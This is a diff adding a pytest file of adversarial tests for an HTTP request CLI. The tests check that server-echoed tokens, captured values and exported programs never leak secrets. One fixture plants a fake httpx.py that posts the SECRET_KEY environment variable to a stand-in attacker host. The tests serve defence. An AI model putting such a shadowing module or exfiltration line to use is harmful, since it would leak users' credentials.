@@ -1,0 +1,103 @@
+"""A server that repeats what it was asked, and a request from Git that makes it repeat a token."""
+
+import os
+import subprocess
+import sys
+
+import pytest
+
+from tests.adversarial.machine import READ, Machine, stolen
+from tests.adversarial.recorder import Reply, json_reply
+from tests.adversarial.test_answers import answering
+from tests.canaries import ACCESS, SECRET_ID, SECRET_KEY
+
+ECHO = f'{{"timestamp": 1, "status": 404, "path": "/weda/NoSuchCall/{ACCESS}"}}'.encode()
+
+
+@pytest.mark.parametrize(
+    ("request_text", "reply"),
+    [
+        (
+            'method = "GET"\nurl = "{{vars.host}}/weda/NoSuchCall/{{access_token}}"\n',
+            Reply(ECHO, 404, (("Content-Type", "application/json"),)),
+        ),
+        (
+            'method = "TRACE"\nurl = "{{vars.host}}/weda/workflow/v1/dev/GetFlowInstances"\n',
+            Reply(f"TRACE /x\nAuthorization: Bearer {ACCESS}".encode(), 200, ()),
+        ),
+        (
+            'method = "POST"\nurl = "{{vars.host}}/weda/x"\nbody = \'{"a": "{{access_token}}"}\'\n',
+            json_reply({"said": {"a": ACCESS}}),
+        ),
+    ],
+)
+def test_no_file_of_the_workspace_gets_a_token_that_was_repeated(
+    machine: Machine, request_text: str, reply: Reply
+) -> None:
+    machine.sites.plain.answers = answering("/weda", reply)
+    machine.write("collections/lure/go.toml", f'endpoint = "{READ}"\n{request_text}')
+    file = machine.workspace / "answer.json"
+    machine.run("send", "lure/go", "--env", "hq", "--yes", "-o", str(file))
+    assert stolen(file.read_bytes() if file.exists() else b"") == []
+
+
+LISTING = """method = "GET"
+url = "{{vars.host}}/a"
+headers = ["Authorization: none"]
+[capture]
+hit = "$.c[?search(@.w, '•')].i"
+[[assert]]
+on = "verdict"
+oneOf = ["ok", "unknown", "failure"]
+"""
+ASKING = """method = "GET"
+url = "{{vars.host}}/got/{{hit}}"
+headers = ["Authorization: none"]
+depends = ["s/a"]
+"""
+
+
+@pytest.mark.parametrize("command", ["send", "run"])
+def test_what_is_captured_tells_nothing_of_a_variable_that_nobody_approved(
+    machine: Machine, command: str
+) -> None:
+    words = [*(f"word {number}" for number in range(8)), os.environ["DATABASE_URL"], "word 9"]
+    answer = json_reply({"c": [{"w": word, "i": f"n{at}"} for at, word in enumerate(words)]})
+    machine.evil.answers = lambda path: answer if path == "/a" else json_reply({})
+    machine.write(
+        "environments/staging.toml",
+        'host = "<EVIL>"\nsecret_id = "x"\nsecret_key = "env:DATABASE_URL"\n'
+        '[env_types]\ndev = "none"\n',
+    )
+    machine.write("collections/s/a.toml", LISTING)
+    machine.write("collections/s/b.toml", ASKING)
+    machine.run(command, "s/b", "--env", "staging")
+    machine.evil.settle()
+    asked = [request.split()[1] for request in machine.evil.requests]
+    assert "/a" in asked
+    assert "/got/n8" not in asked
+
+
+def test_an_exported_program_imports_nothing_that_lies_beside_it(machine: Machine) -> None:
+    machine.write(
+        "httpx.py",
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('<EVIL>/x', os.environ['SECRET_KEY'].encode())\n",
+    )
+    program = machine.workspace / "todo.py"
+    exported = machine.run(
+        "export", "basic", "--format", "python", "--env", "hq", "-o", str(program)
+    )
+    assert exported.status == 0, exported.talk
+    environ = {"PATH": os.environ["PATH"], "SECRET_ID": SECRET_ID, "SECRET_KEY": SECRET_KEY}
+    for command, given in (([program.name], None), (["-"], program.read_bytes())):
+        subprocess.run(
+            [sys.executable, *command],
+            cwd=machine.workspace,
+            env=environ,
+            input=given,
+            capture_output=True,
+            check=False,
+            timeout=60,
+        )
+    assert machine.stolen == []
